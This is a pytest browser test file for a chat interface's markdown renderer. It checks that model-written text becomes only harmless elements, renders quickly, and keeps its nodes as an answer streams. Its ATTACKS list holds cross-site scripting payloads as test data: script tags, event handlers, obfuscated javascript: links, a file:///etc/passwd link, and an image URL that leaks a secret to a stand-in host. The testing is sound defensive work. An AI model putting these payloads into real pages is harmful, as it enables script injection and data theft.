"""What a model writes becomes the page's elements, and nothing that acts."""

from __future__ import annotations

import re
from pathlib import Path

from tests.browser import FIXTURES, NEEDS_CHROMIUM, Open, answered, ask
from tests.web_server import Stage, decision, final

pytestmark = NEEDS_CHROMIUM
theatre, stage, open_page = FIXTURES

WEB = Path(__file__).resolve().parent.parent / "web"
# What a model might write to break out of its answer; none of it may become an element that acts.
ATTACKS = (
    "<script>window.broken = 1</script>",
    "<img src=x onerror='window.broken = 1'>",
    "<svg onload='window.broken = 1'></svg>",
    "[click](javascript:window.broken=1)",
    "[click](JaVaScRiPt:window.broken=1)",
    "[click](java\tscript:window.broken=1)",
    "[click](data:text/html,<script>window.broken=1</script>)",
    "[click](vbscript:x) [click](file:///etc/passwd) [click](/relative) [click](//elsewhere.example)",
    "![x](https://elsewhere.example/steal.png?q=secret)",
    '[x](https://a.example/"onmouseover="window.broken=1)',
    "<https://a.example/<script>window.broken=1</script>>",
    "`<b>` **<i onclick=window.broken=1>x</i>**",
    "```html\n<script>window.broken = 1</script>\n```",
    '| <img src=x onerror=window.broken=1> | b |\n|---|---|\n| <a href="javascript:window.broken=1">x</a> | d |',
    "<iframe src='javascript:window.broken=1'></iframe><style>body{display:none}</style><base href='//evil.example'>",
)
# The elements that an answer may consist of, and no attribute that runs anything.
HARMLESS = """node => [...node.querySelectorAll("*")].filter(one =>
  !"P UL OL LI PRE CODE STRONG EM DEL A H4 H5 H6 HR BLOCKQUOTE TABLE THEAD TBODY TR TH TD DIV".split(" ").includes(one.tagName)
  || [...one.attributes].some(at => at.name.startsWith("on") || at.name === "style" || at.name === "src")
  || (one.tagName === "A" && !/^https?:/.test(one.href))).map(one => one.outerHTML)"""


def test_every_module_is_fetched_at_once_not_one_after_the_other() -> None:
    preloaded = re.findall(r'rel="modulepreload" href="(.+?)"', (WEB / "index.html").read_text(encoding="utf-8"))
    assert sorted([*preloaded, "app.js"]) == sorted(module.name for module in WEB.glob("*.js"))


def test_markdown_becomes_the_elements_it_stands_for(open_page: Open, stage: Stage) -> None:
    page = open_page()
    text = (
        "# Plan\nOne *two* **three** `four` ~~five~~ snake_case_name 2 * 3 * 4\n\n1. a\n   - b\n2. c\n\n```py\nx = '<&>'\n```\n"
        "> quoted\n\n| h | i |\n|---|---|\n| j | k |\n\n[site](https://a.example/x_(y)) and https://b.example/z."
    )
    answered(page, stage, text)
    body = page.locator(".answer-text")
    assert body.locator("h4").inner_text() == "Plan"
    for tag, content in (
        ("em", "two"),
        ("strong", "three"),
        ("p code", "four"),
        ("del", "five"),
        ("ol > li > ul > li", "b"),
    ):
        assert body.locator(tag).all_inner_texts() == [content]
    assert "snake_case_name 2 * 3 * 4" in body.inner_text()
    assert body.locator("ol > li").count() == 2
    assert body.locator("pre code").inner_text() == "x = '<&>'"
    assert body.locator("blockquote").inner_text() == "quoted"
    assert body.locator("td").all_inner_texts() == ["j", "k"]
    links = body.locator("a").evaluate_all("links => links.map(link => [link.href, link.rel, link.target])")
    kept_out = "noopener noreferrer nofollow"
    assert links == [["https://a.example/x_(y)", kept_out, "_blank"], ["https://b.example/z", kept_out, "_blank"]]


def test_nothing_that_a_model_writes_becomes_code(open_page: Open, stage: Stage) -> None:
    page = open_page()
    turn = ask(page, stage, ATTACKS[0])
    stage.say("decision", turn, **decision(route=ATTACKS[1], why=ATTACKS[2]))
    stage.say("tool_call", turn, name=ATTACKS[1], arguments={"x": ATTACKS[0]})
    stage.say("tool_result", turn, name=ATTACKS[1], text=ATTACKS[2])
    for attack in ATTACKS:
        stage.say("token", turn, text=f"{attack}\n\n")
    stage.say("final", turn, **final("\n\n".join(ATTACKS), route=ATTACKS[1]))
    page.locator(".answer[aria-busy=false]").wait_for()
    assert page.locator(".answer-text").evaluate(HARMLESS) == []
    assert page.evaluate("window.broken") is None
    assert page.locator("#conversation :is(script, img, iframe, style, base, [onerror], [onload])").count() == 0
    assert page.locator(".answer-text").get_by_text(ATTACKS[0]).first.is_visible()
    assert page.locator(".answer-text pre").inner_text() == "<script>window.broken = 1</script>"


def test_no_text_makes_the_renderer_run_long(open_page: Open) -> None:
    page = open_page()
    slowest_ms = page.evaluate(
        """async () => {
          const { MarkdownView } = await import("/markdown.js");
          const starts = ["*", "**a", "_a ", "[", "![a](", "`", "``a`", "~~a", "> ", "- ", "  - a\\n", "| a\\n|-", "\\\\", "<http://", "#", "* * "];
          const took_ms = start => {
            const began = performance.now();
            new MarkdownView(document.createElement("div")).show(start.repeat(32000 / start.length));
            return performance.now() - began;
          };
          // a busy machine may hold one try up, but not three
          return Math.max(...starts.map(start => Math.min(took_ms(start), took_ms(start), took_ms(start))));
        }"""
    )
    assert slowest_ms < 3_000


def test_what_has_been_rendered_keeps_its_nodes_while_the_answer_grows(open_page: Open) -> None:
    kept = open_page().evaluate(
        """async () => {
          const { MarkdownView } = await import("/markdown.js");
          const box = document.createElement("div"), view = new MarkdownView(box);
          view.show("one\\n\\n- two");
          const [first] = box.children;
          view.show("one\\n\\n- two\\n- three\\n\\nfour");
          return [first === box.children[0], box.children.length, box.querySelectorAll("li").length];
        }"""
    )
    assert kept == [True, 3, 2]
